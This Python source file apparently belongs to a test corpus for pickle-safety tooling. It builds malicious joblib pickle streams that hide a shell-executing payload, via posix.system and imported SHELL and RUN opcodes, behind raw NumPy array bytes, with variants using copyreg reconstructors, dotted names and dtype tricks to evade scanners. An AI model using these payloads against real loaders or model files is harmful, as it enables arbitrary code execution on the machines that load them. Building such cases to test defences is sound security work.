"""attack_arrays.py - opcodes behind the bytes of arrays, as joblib's unpickler comes to them."""

from __future__ import annotations

import io
from collections.abc import Iterator
from typing import Any

from attack_streams import RUN, SHELL, Attack, call, frame, name, text


def joblib_resumed() -> bytes:
    """A pickle that goes on after the raw bytes of an array; they look like STOP and opcodes."""
    import joblib
    import numpy

    class Payload:
        def __reduce__(self) -> Any:
            import posix

            return posix.system, (SHELL.decode(),)

    file = io.BytesIO()
    joblib.dump([numpy.frombuffer(b".cN.\x80\x04.." * 8, dtype="u1"), Payload()], file)
    return file.getvalue()


WRAPPER = name("joblib.numpy_pickle", "NumpyArrayWrapper")
FLOAT64 = call(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88")


def array_state(dtype: bytes) -> bytes:
    """The state of a NumpyArrayWrapper of three items, and its BUILD."""
    state = text("subclass") + name("numpy", "ndarray") + text("shape") + b"K\3\x85"
    state += text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x89"
    return b"}(" + state + b"ub"


def after_arrays() -> Iterator[Attack]:
    """joblib's unpickler takes the bytes of an array out of the stream; how many has to be known."""
    wrapper, built = WRAPPER + b")\x81", array_state(FLOAT64)
    made = {
        "plain": b"\x80\x03]" + wrapper + built,
        "bytes-behind-the-frame": b"\x80\x04]"
        + frame(len(wrapper + built) + 4)
        + wrapper
        + built
        + b"N0N0",
        "by-newobj-function": b"]" + call(name("copyreg", "__newobj__"), WRAPPER) + built,
        "by-reconstructor": b"]"
        + call(name("copyreg", "_reconstructor"), WRAPPER, name("builtins", "object"), b"N")
        + built,
        "by-dotted-name": b"\x80\x04]"
        + name("joblib", "numpy_pickle.NumpyArrayWrapper")
        + b")\x81"
        + built,
        "dtype-without-size": b"]"
        + wrapper
        + array_state(call(name("numpy", "dtype"), name("numpy", "float64"))),
        "itemsize-in-the-state": b"]"
        + wrapper
        + array_state(
            call(name("numpy", "dtype"), text("S3"), b"\x89", b"\x88")
            + b"(K\3"
            + text("|")
            + b"NNNK\x08K\1K\0tb"
        ),
    }
    # Bytes that are no opcodes, and bytes that end a pickle.
    for title, stream in made.items():
        for ending, data in (("", b"\xff" * 24), ("-and-dots", b"." * 24)):
            attack = stream + data + b"a" + RUN + b"a."
            yield Attack("O21", title + ending, attack, load="joblib", pythons="self")
    yield Attack("O21", "joblib-after-array", joblib_resumed(), load="joblib", pythons="self")
